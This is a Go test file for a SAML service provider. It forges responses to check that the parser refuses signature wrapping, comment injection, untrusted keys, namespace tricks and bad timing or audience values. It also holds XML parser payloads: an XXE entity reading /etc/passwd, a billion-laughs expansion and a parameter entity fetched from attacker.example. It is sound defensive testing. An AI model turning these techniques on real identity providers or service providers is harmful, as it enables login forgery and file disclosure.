package saml

import (
	"context"
	"encoding/base64"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"

	"github.com/engage-sso/engage-sso/caddymodule/saml/samltest"
)

// This file attacks ParseResponse with real responses, signed by a
// samltest IdP, that are then taken apart and put together again the way
// an attacker holding one genuine response would (signature wrapping,
// comment injection, namespace tricks), and with documents aimed at the
// XML parser itself (DTDs, entity expansion, non-round-tripping XML).

func TestParseResponseAttacks(t *testing.T) {
	t.Parallel()
	now := testNow()
	idp := newTestIdP(t, now)
	// impostor has the IdP's entityID but a key and certificate that are
	// not in the metadata.
	impostor := newTestIdP(t, now)

	// signedDoc is a genuine response, the assertion signed (Azure's
	// default), with the unsigned Response around it.
	signedDoc := func(t *testing.T) *etree.Document {
		return idp.ResponseDocument(t, atkOptions(), nil)
	}
	// evilAssertion is an unsigned assertion for the attacker.
	evilAssertion := func(t *testing.T) *etree.Element {
		o := atkOptions()
		o.Unsigned = true
		o.User = samltest.User{ObjectID: "e", Email: atkEvilEmail}
		return atkChild(t, idp.ResponseDocument(t, o, nil).Root(), "Assertion")
	}
	// edited returns a genuine response changed by edit after signing.
	edited := func(edit func(t *testing.T, resp, assertion *etree.Element)) func(t *testing.T) string {
		return func(t *testing.T) string {
			doc := signedDoc(t)
			edit(t, doc.Root(), atkChild(t, doc.Root(), "Assertion"))
			return atkEncode(t, doc)
		}
	}
	// signedWith returns a response with options changed by change and
	// the assertion changed by edit before it is signed.
	signedWith := func(change func(*samltest.ResponseOptions), edit func(*etree.Element)) func(t *testing.T) string {
		return func(t *testing.T) string {
			o := atkOptions()
			if change != nil {
				change(&o)
			}
			return atkEncode(t, idp.ResponseDocument(t, o, edit))
		}
	}
	// rawWith returns a genuine response as bytes, with old replaced by new.
	rawWith := func(old, new string) func(t *testing.T) string {
		return func(t *testing.T) string {
			return atkReplace(t, samltest.WriteDocument(t, signedDoc(t)), old, new)
		}
	}
	// withDoctype returns a genuine response with doctype before its root.
	withDoctype := func(doctype string) func(t *testing.T) string {
		return func(t *testing.T) string {
			return samltest.Encode(append([]byte(`<?xml version="1.0" encoding="UTF-8"?>`+doctype), samltest.WriteDocument(t, signedDoc(t))...))
		}
	}

	tests := []struct {
		name   string
		build  func(t *testing.T) string // the SAMLResponse
		config func(*Config)
		// want is the reason the response must be refused for; "" means
		// it must be accepted with the values of accepted.
		want     Reason
		accepted atkResult
	}{
		// The baseline: the helpers make responses that are accepted, so
		// the refusals below are due to the attacks alone.
		{
			name:     "baseline: genuine response",
			build:    edited(func(*testing.T, *etree.Element, *etree.Element) {}),
			accepted: atkResult{nameID: samltest.DefaultUser().Email, email: samltest.DefaultUser().Email},
		},
		{
			name:     "baseline: genuine response, Response also signed",
			build:    signedWith(func(o *samltest.ResponseOptions) { o.SignAssertion, o.SignResponse = true, true }, nil),
			accepted: atkResult{nameID: samltest.DefaultUser().Email, email: samltest.DefaultUser().Email},
		},

		// XML signature wrapping.
		{
			// The signed assertion hidden in Extensions, an unsigned one in
			// its place: nothing at the assertion's place is signed, so the
			// early scan refuses it.
			name: "wrapping: signed assertion moved into Extensions",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				resp.RemoveChild(assertion)
				atkExtensions(resp).AddChild(assertion)
				resp.AddChild(evilAssertion(t))
			}),
			want: ReasonSignature,
		},
		{
			// The classic XSW: the evil assertion carries the genuine
			// Signature, whose ds:Object holds the genuine assertion, and
			// takes its ID. The digest is computed over the evil assertion.
			name: "wrapping: signed assertion inside the Signature's Object, evil assertion with its ID",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				sig := atkChild(t, assertion, "Signature")
				evil := evilAssertion(t)
				evil.CreateAttr("ID", assertion.SelectAttrValue("ID", ""))
				resp.RemoveChild(assertion)
				sig = sig.Copy()
				sig.CreateElement("Object").AddChild(assertion)
				evil.InsertChildAt(1, sig)
				resp.AddChild(evil)
			}),
			want: ReasonSignature,
		},
		{
			name: "wrapping: signed assertion inside the Signature's Object, evil assertion with its own ID",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				sig := atkChild(t, assertion, "Signature").Copy()
				evil := evilAssertion(t)
				resp.RemoveChild(assertion)
				sig.CreateElement("Object").AddChild(assertion)
				evil.InsertChildAt(1, sig)
				resp.AddChild(evil)
			}),
			want: ReasonSignature,
		},
		{
			// crewjam refuses an unsigned Response with more than one
			// assertion before looking at them (ErrMalformedMessage).
			name: "wrapping: unsigned assertion before the signed one",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				resp.InsertChildAt(assertion.Index(), evilAssertion(t))
			}),
			want: ReasonMalformed,
		},
		{
			name: "wrapping: unsigned assertion after the signed one",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				resp.AddChild(evilAssertion(t))
			}),
			want: ReasonMalformed,
		},
		{
			// Two elements with the signed ID, the evil one first, so that
			// an ID lookup over the document finds it.
			name: "wrapping: duplicate ID, evil assertion first",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				evil := evilAssertion(t)
				evil.CreateAttr("ID", assertion.SelectAttrValue("ID", ""))
				resp.InsertChildAt(assertion.Index(), evil)
			}),
			want: ReasonMalformed,
		},
		{
			// The Response, which is not signed, takes the assertion's ID.
			// The signature still covers the assertion, which is the only
			// thing read: accepting is fine, with the genuine values.
			name: "wrapping: duplicate ID on the unsigned Response",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				resp.CreateAttr("ID", assertion.SelectAttrValue("ID", ""))
			}),
			accepted: atkResult{nameID: samltest.DefaultUser().Email, email: samltest.DefaultUser().Email},
		},
		{
			name: "wrapping: Reference URI pointed at the Response",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				ref := atkFind(t, assertion, "Signature/SignedInfo/Reference")
				ref.CreateAttr("URI", "#"+resp.SelectAttrValue("ID", ""))
			}),
			want: ReasonSignature,
		},
		{
			// The Response is signed, its assertion is not: the attacker
			// wraps the signed Response in a new one with an evil
			// assertion.
			name: "wrapping: signed Response moved into Extensions of an evil Response",
			build: func(t *testing.T) string {
				o := atkOptions()
				o.SignResponse = true
				genuine := idp.ResponseDocument(t, o, nil).Root()
				o.Unsigned = true
				o.User = samltest.User{ObjectID: "e", Email: atkEvilEmail}
				evil := idp.ResponseDocument(t, o, nil)
				atkExtensions(evil.Root()).AddChild(genuine)
				return atkEncode(t, evil)
			},
			want: ReasonSignature,
		},

		// A Signature somewhere, but not one that signs what is read.
		{
			name: "signed-looking: another response's Signature on an unsigned Response",
			build: func(t *testing.T) string {
				o := atkOptions()
				o.SignResponse = true
				sig := atkChild(t, idp.ResponseDocument(t, o, nil).Root(), "Signature")
				o.Unsigned = true
				o.User = samltest.User{ObjectID: "e", Email: atkEvilEmail}
				evil := idp.ResponseDocument(t, o, nil)
				evil.Root().InsertChildAt(1, sig)
				return atkEncode(t, evil)
			},
			want: ReasonSignature,
		},
		{
			name: "signed-looking: genuine Signature in Extensions, unsigned assertion",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				sig := atkChild(t, assertion, "Signature")
				resp.RemoveChild(assertion)
				atkExtensions(resp).AddChild(sig)
				resp.AddChild(evilAssertion(t))
			}),
			want: ReasonSignature,
		},
		{
			name: "signed-looking: genuine Signature inside the Subject of an unsigned assertion",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				sig := atkChild(t, assertion, "Signature")
				resp.RemoveChild(assertion)
				evil := evilAssertion(t)
				atkChild(t, evil, "Subject").AddChild(sig)
				resp.AddChild(evil)
			}),
			want: ReasonSignature,
		},

		// Keys that are not the IdP's.
		{
			name: "untrusted key, its certificate in KeyInfo",
			build: func(t *testing.T) string {
				return atkEncode(t, impostor.ResponseDocument(t, atkOptions(), nil))
			},
			want: ReasonUntrustedCert,
		},
		{
			// Without KeyInfo the metadata certificates are tried, and the
			// signature does not verify with them.
			name: "untrusted key, no KeyInfo",
			build: func(t *testing.T) string {
				doc := impostor.ResponseDocument(t, atkOptions(), nil)
				sig := atkFind(t, doc.Root(), "Assertion/Signature")
				sig.RemoveChild(atkChild(t, sig, "KeyInfo"))
				return atkEncode(t, doc)
			},
			want: ReasonSignature,
		},
		{
			name: "untrusted key, the IdP's certificate in KeyInfo",
			build: func(t *testing.T) string {
				doc := impostor.ResponseDocument(t, atkOptions(), nil)
				c := atkFind(t, doc.Root(), "Assertion/Signature/KeyInfo/X509Data/X509Certificate")
				c.SetText(base64.StdEncoding.EncodeToString(idp.Cert.Raw))
				return atkEncode(t, doc)
			},
			want: ReasonSignature,
		},

		// Comment injection (CVE-2017-11427 and its siblings).
		{
			name: "comment: text appended to the NameID after signing",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				o := atkOptions()
				atkSplitWithComment(atkFind(t, assertion, "Subject/NameID"), o.User.Email, ".evil.com")
			}),
			want: ReasonSignature,
		},
		{
			name: "comment: text appended to the emailaddress after signing",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				o := atkOptions()
				atkSplitWithComment(atkEmail(t, assertion), o.User.Email, ".evil.com")
			}),
			want: ReasonSignature,
		},
		{
			// The IdP signed user@contoso.com.evil.com; the attacker splits
			// it with a comment, which exclusive c14n leaves out, so the
			// signature still verifies. What is read must be the whole
			// signed text, never the part before the comment.
			name: "comment: signed value split by a comment after signing",
			build: func(t *testing.T) string {
				o := atkOptions()
				o.User.Email = atkCommentedUser
				doc := idp.ResponseDocument(t, o, nil)
				assertion := atkChild(t, doc.Root(), "Assertion")
				atkSplitWithComment(atkFind(t, assertion, "Subject/NameID"), atkTruncated, ".evil.com")
				atkSplitWithComment(atkEmail(t, assertion), atkTruncated, ".evil.com")
				return atkEncode(t, doc)
			},
			accepted: atkResult{nameID: atkCommentedUser, email: atkCommentedUser},
		},
		{
			name: "comment: the IdP signed values containing a comment",
			build: signedWith(nil, func(assertion *etree.Element) {
				atkSplitWithComment(assertion.FindElement("Subject/NameID"), atkTruncated, ".evil.com")
				atkSplitWithComment(assertion.FindElement("AttributeStatement/Attribute[@Name='"+samltest.ClaimEmailAddress+"']/AttributeValue"), atkTruncated, ".evil.com")
			}),
			accepted: atkResult{nameID: atkCommentedUser, email: atkCommentedUser},
		},

		// More than one assertion.
		{
			name: "two signed assertions in an unsigned Response",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				o := atkOptions()
				o.User = samltest.User{ObjectID: "e", Email: atkEvilEmail}
				resp.AddChild(atkChild(t, idp.ResponseDocument(t, o, nil).Root(), "Assertion"))
			}),
			want: ReasonMalformed,
		},

		{
			name: "two signed assertions in a signed Response",
			build: func(t *testing.T) string {
				o := atkOptions()
				doc := idp.ResponseDocument(t, o, nil)
				o.User = samltest.User{ObjectID: "e", Email: atkEvilEmail}
				doc.Root().AddChild(atkChild(t, idp.ResponseDocument(t, o, nil).Root(), "Assertion"))
				idp.Sign(t, doc.Root())
				return atkEncode(t, doc)
			},
			want: ReasonMalformed,
		},

		// Each check of the SAML profile on its own.
		{name: "wrong Audience", build: signedWith(func(o *samltest.ResponseOptions) { o.Audience = spEntityID + "/other" }, nil), want: ReasonAudience},
		{name: "wrong Recipient only", build: signedWith(func(o *samltest.ResponseOptions) { o.Recipient = otherACS }, nil), want: ReasonDestination},
		{name: "wrong Destination only", build: signedWith(func(o *samltest.ResponseOptions) { o.Destination, o.Recipient = otherACS, spACS }, nil), want: ReasonDestination},
		{
			// The Destination of the unsigned Response rewritten after
			// signing: still checked, and refused.
			name: "Destination rewritten after signing",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				resp.CreateAttr("Destination", otherACS)
			}),
			want: ReasonDestination,
		},
		{
			name: "assertion Issuer differs from the Response Issuer",
			build: signedWith(nil, func(assertion *etree.Element) {
				assertion.SelectElement("Issuer").SetText("https://sts.windows.net/0f0f0f0f-0000-4000-8000-000000000000/")
			}),
			want: ReasonIssuer,
		},
		{
			name: "Response Issuer differs from the assertion Issuer",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				atkChild(t, resp, "Issuer").SetText("https://sts.windows.net/0f0f0f0f-0000-4000-8000-000000000000/")
			}),
			want: ReasonIssuer,
		},
		{name: "expired", build: signedWith(func(o *samltest.ResponseOptions) { o.IssueInstant = now.Add(-2 * time.Hour) }, nil), want: ReasonExpired},
		{
			name: "subject confirmation expired",
			build: signedWith(func(o *samltest.ResponseOptions) {
				o.IssueInstant = now.Add(-80 * time.Second)
				o.SubjectNotOnOrAfter = now.Add(-4 * time.Minute)
			}, nil),
			want: ReasonExpired,
		},
		{name: "not yet valid", build: signedWith(func(o *samltest.ResponseOptions) { o.IssueInstant = now.Add(10 * time.Minute) }, nil), want: ReasonNotYetValid},
		{name: "unknown InResponseTo", build: signedWith(func(o *samltest.ResponseOptions) { o.InResponseTo = "id-not-ours" }, nil), want: ReasonRequestID},
		{
			// The Response (unsigned) claims to answer our request, the
			// signed assertion answers another one.
			name: "Response InResponseTo rewritten after signing",
			build: func(t *testing.T) string {
				o := atkOptions()
				o.InResponseTo = "id-pending-elsewhere"
				doc := idp.ResponseDocument(t, o, nil)
				doc.Root().CreateAttr("InResponseTo", testRequestID)
				return atkEncode(t, doc)
			},
			want: ReasonRequestID,
		},

		// DTDs are refused before any parsing.
		{
			name:  "XXE: external entity to /etc/passwd",
			build: withDoctype(`<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`),
			want:  ReasonMalformed,
		},
		{
			name: "billion laughs",
			build: withDoctype(`<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
				`<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>`),
			want: ReasonMalformed,
		},
		{name: "empty DOCTYPE", build: withDoctype(`<!DOCTYPE samlp:Response>`), want: ReasonMalformed},
		{name: "empty internal subset", build: withDoctype(`<!DOCTYPE x []>`), want: ReasonMalformed},
		{name: "parameter entity", build: withDoctype(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>`), want: ReasonMalformed},
		{
			// An entity reference in the signed assertion, without a DTD to
			// declare it.
			name:  "undeclared entity reference",
			build: rawWith(samltest.DefaultUser().GivenName+"</AttributeValue>", "&xxe;</AttributeValue>"),
			want:  ReasonMalformed,
		},
		{
			name: "UTF-16 declaration",
			build: func(t *testing.T) string {
				return samltest.Encode(append([]byte(`<?xml version="1.0" encoding="UTF-16"?>`), samltest.WriteDocument(t, signedDoc(t))...))
			},
			want: ReasonMalformed,
		},

		// Namespace tricks and XML that does not round-trip.
		{
			name:  "samlp prefix bound to another namespace",
			build: rawWith(`xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"`, `xmlns:samlp="urn:evil:protocol"`),
			want:  ReasonMalformed,
		},
		{
			// The assertion moved to a foreign namespace is no assertion:
			// nothing at the assertion's place is signed.
			name:  "Assertion in a foreign namespace",
			build: rawWith(`<Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion"`, `<Assertion xmlns="urn:evil:assertion"`),
			want:  ReasonSignature,
		},
		{
			// A SAML-namespace Assertion written with the samlp prefix
			// rebound to the assertion namespace: the same element to a
			// namespace-aware reader, but not the bytes that were signed.
			name: "Assertion prefix rebound to the assertion namespace",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				assertion.Space = "samlp"
				assertion.RemoveAttr("xmlns")
				assertion.CreateAttr("xmlns:samlp", nsAssertion)
			}),
			want: ReasonSignature,
		},
		{
			name:  `"xmlns:" attribute (CVE-2020-29509 family)`,
			build: rawWith(`<Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion"`, `<Assertion xmlns:="urn:oasis:names:tc:SAML:2.0:assertion" xmlns="urn:oasis:names:tc:SAML:2.0:assertion"`),
			want:  ReasonMalformed,
		},
		{
			name:  "colon-prefixed element name (CVE-2020-29511 family)",
			build: rawWith(`<samlp:Status>`, `<:Assertion xmlns:="urn:oasis:names:tc:SAML:2.0:assertion"/><samlp:Status>`),
			want:  ReasonMalformed,
		},
		{
			name:  "attribute name with two colons",
			build: rawWith(`<Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion"`, `<Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion" a:b:c="x"`),
			want:  ReasonMalformed,
		},
		{
			name:  "element name with two colons",
			build: rawWith(`<samlp:Status>`, `<samlp:x:Assertion/><samlp:Status>`),
			want:  ReasonMalformed,
		},
		{
			name: "AttributeStatement added inside the signed assertion",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				assertion.AddChild(atkChild(t, evilAssertion(t), "AttributeStatement"))
			}),
			want: ReasonSignature,
		},
		{
			// Parser differential: an AttributeStatement outside the signed
			// assertion is no part of it. Refusing would be fine too; what
			// matters is that it is never read.
			name: "AttributeStatement beside the signed assertion",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				resp.AddChild(atkChild(t, evilAssertion(t), "AttributeStatement"))
			}),
			accepted: atkResult{nameID: samltest.DefaultUser().Email, email: samltest.DefaultUser().Email},
		},
		{
			name: "decoy Assertion in a foreign namespace beside the signed one",
			build: edited(func(t *testing.T, resp, assertion *etree.Element) {
				evil := evilAssertion(t)
				evil.CreateAttr("xmlns", "urn:evil:assertion")
				resp.InsertChildAt(assertion.Index(), evil)
			}),
			accepted: atkResult{nameID: samltest.DefaultUser().Email, email: samltest.DefaultUser().Email},
		},

		// Transport encoding.
		{
			name:   "over MaxResponseBytes",
			build:  edited(func(*testing.T, *etree.Element, *etree.Element) {}),
			config: func(c *Config) { c.MaxResponseBytes = 2048 },
			want:   ReasonMalformed,
		},
		{name: "base64 with characters outside the alphabet", build: func(*testing.T) string { return "PHNhbWxw*09SZXNwb25zZT4=" }, want: ReasonMalformed},
		{name: "URL-safe base64", build: func(*testing.T) string { return "PD94bWw_-A==" }, want: ReasonMalformed},
		{name: "truncated base64", build: func(*testing.T) string { return "PHNhbWxwOlJlc3BvbnNl" + "P" }, want: ReasonMalformed},
		{name: "base64 of binary", build: func(*testing.T) string { return base64.StdEncoding.EncodeToString([]byte{0, 0xff, 0xfe, '<'}) }, want: ReasonMalformed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			cfg := testConfig(t, idp, now)
			if tt.config != nil {
				tt.config(&cfg)
			}
			sp := newTestSP(t, cfg)
			got, err := sp.ParseResponse(context.Background(), tt.build(t), []string{testRequestID, "id-pending-elsewhere"})
			if tt.want != "" {
				var e *Error
				if !errors.As(err, &e) {
					t.Fatalf("ParseResponse() = %+v, %v; want an *Error with reason %q", got, err, tt.want)
				}
				if e.Reason != tt.want {
					t.Errorf("ParseResponse() reason = %q; want %q (error: %v)", e.Reason, tt.want, err)
				}
				if got != nil {
					t.Errorf("ParseResponse() = %+v with an error; want nil", got)
				}
				return
			}
			if err != nil {
				t.Fatalf("ParseResponse() error: %v; want it accepted with NameID %q", err, tt.accepted.nameID)
			}
			if got.NameID != tt.accepted.nameID {
				t.Errorf("ParseResponse() NameID = %q; want %q", got.NameID, tt.accepted.nameID)
			}
			if email := got.Attributes[samltest.ClaimEmailAddress]; len(email) != 1 || email[0] != tt.accepted.email {
				t.Errorf("ParseResponse() emailaddress = %q; want [%q]", email, tt.accepted.email)
			}
			for name, values := range got.Attributes {
				for _, v := range values {
					if strings.Contains(v, "mallory") {
						t.Errorf("ParseResponse() attribute %s = %q; want none of the attacker's values", name, v)
					}
				}
			}
		})
	}
}
